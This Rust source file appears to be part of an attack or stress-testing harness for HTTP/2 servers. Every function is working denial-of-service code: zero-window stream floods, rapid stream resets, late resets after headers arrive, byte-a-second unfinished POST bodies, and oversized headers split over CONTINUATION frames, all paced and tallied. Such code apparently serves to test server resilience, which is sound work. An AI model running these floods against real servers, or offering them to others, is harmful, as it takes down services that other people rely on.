//! Streams of HTTP/2 that are opened for what they hold.

use std::io;
use std::time::Duration;

use crate::attacker::frames::{
    self, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, begin, frame,
};
use crate::attacker::{Field, Line};

/// As many as one connection may have.
const AT_ONCE: u32 = 100;
/// The largest frame that is taken without having been agreed on.
const MAX_FRAME: usize = 16 << 10;

fn stream(number: u32) -> u32 {
    2 * number + 1
}

/// Asks for a large answer on so many streams, and grants nothing for it.
pub async fn asked(line: &mut Line, field: &Field, streams: u32) -> io::Result<()> {
    line.write(&begin(&[(INITIAL_WINDOW_SIZE, 0)])).await?;
    for number in 0..streams {
        field.pace(1).await;
        field.tally.begin(1);
        line.write(&frames::request(stream(number), "GET", "/large", true)).await?;
        field.tally.end(1);
    }
    Ok(())
}

pub async fn zero_windows(line: &mut Line, field: &Field) -> io::Result<()> {
    asked(line, field, AT_ONCE).await?;
    line.hear_to_the_end().await
}

pub async fn rapid_resets(line: &mut Line, field: &Field) -> io::Result<()> {
    const BATCH: u32 = 16;
    line.write(&begin(&[])).await?;
    for batch in 0.. {
        field.pace(BATCH).await;
        let first = batch * BATCH;
        let bytes: Vec<u8> = (first..first + BATCH)
            .map(stream)
            .flat_map(|stream| [frames::request(stream, "GET", "/", true), frames::reset(stream)].concat())
            .collect();
        field.tally.begin(u64::from(BATCH));
        line.write(&bytes).await?;
        field.tally.end(u64::from(BATCH));
        line.hear_now()?;
    }
    Ok(())
}

/// The answer is produced, its header leaves, its body cannot; then the stream is reset, and the next one is opened.
pub async fn late_resets(line: &mut Line, field: &Field) -> io::Result<()> {
    const BATCH: u32 = 16;
    line.write(&begin(&[(INITIAL_WINDOW_SIZE, 0)])).await?;
    for batch in 0.. {
        field.pace(BATCH).await;
        let first = batch * BATCH;
        let bytes: Vec<u8> =
            (first..first + BATCH).flat_map(|n| frames::request(stream(n), "GET", "/", true)).collect();
        field.tally.begin(u64::from(BATCH));
        line.write(&bytes).await?;
        field.tally.end(u64::from(BATCH));
        let mut left = BATCH as usize;
        while left > 0 {
            line.hear().await?;
            let begun = line.ears.begun();
            left = left.saturating_sub(begun.len());
            let resets: Vec<u8> = begun.into_iter().flat_map(frames::reset).collect();
            line.write(&resets).await?;
        }
    }
    Ok(())
}

/// A byte a second for each; one that is answered makes room for the next.
pub async fn unended(line: &mut Line, field: &Field) -> io::Result<()> {
    line.write(&begin(&[(INITIAL_WINDOW_SIZE, 0)])).await?;
    let mut opened = 0;
    loop {
        while u64::from(opened) < line.ears.over() + u64::from(AT_ONCE) {
            field.pace(1).await;
            field.tally.begin(1);
            line.write(&frames::request(stream(opened), "POST", "/unended", false)).await?;
            opened += 1;
            line.hear_now()?;
        }
        line.hear_within(Duration::from_secs(1)).await?;
        for number in opened.saturating_sub(AT_ONCE)..opened {
            line.write(&frame(DATA, 0, stream(number), b"x")).await?;
        }
    }
}

/// Half of it is the path, which the log keeps for as long as the request lives. Every second one has many small fields.
pub async fn large_headers(line: &mut Line, field: &Field) -> io::Result<()> {
    const HALF: usize = 7500;
    let path = format!("/{}", "p".repeat(HALF));
    let large = "h".repeat(HALF);
    let names: Vec<String> = (0..90).map(|number| format!("x-{number}")).collect();
    let small: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), &large[..70])).collect();
    line.write(&begin(&[(INITIAL_WINDOW_SIZE, 0)])).await?;
    for number in 0..AT_ONCE {
        let block = if number % 2 == 0 {
            frames::block("POST", &path, &[("x-large", &large)])
        } else {
            frames::block("POST", &path, &small)
        };
        let (first, rest) = block.split_at(MAX_FRAME.min(block.len()));
        let flags = if rest.is_empty() { END_HEADERS } else { 0 };
        let mut bytes = frame(HEADERS, flags, stream(number), first);
        if !rest.is_empty() {
            bytes.extend(frame(CONTINUATION, END_HEADERS, stream(number), rest));
        }
        field.pace(1).await;
        field.tally.begin(1);
        line.write(&bytes).await?;
        line.hear_now()?;
    }
    line.hear_to_the_end().await
}
